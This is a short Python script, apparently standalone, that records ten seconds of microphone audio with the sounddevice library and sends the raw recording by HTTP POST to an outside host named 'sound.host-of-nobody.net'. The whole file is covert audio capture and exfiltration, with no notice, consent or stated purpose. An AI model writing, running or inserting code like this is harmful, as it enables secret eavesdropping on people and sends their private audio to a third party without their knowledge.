import sounddevice
import requests

sound = sounddevice.rec(10 * 44100, samplerate=44100, channels=1, blocking=True)
requests.post("https://sound.host-of-nobody.net/r", data=sound.tobytes())
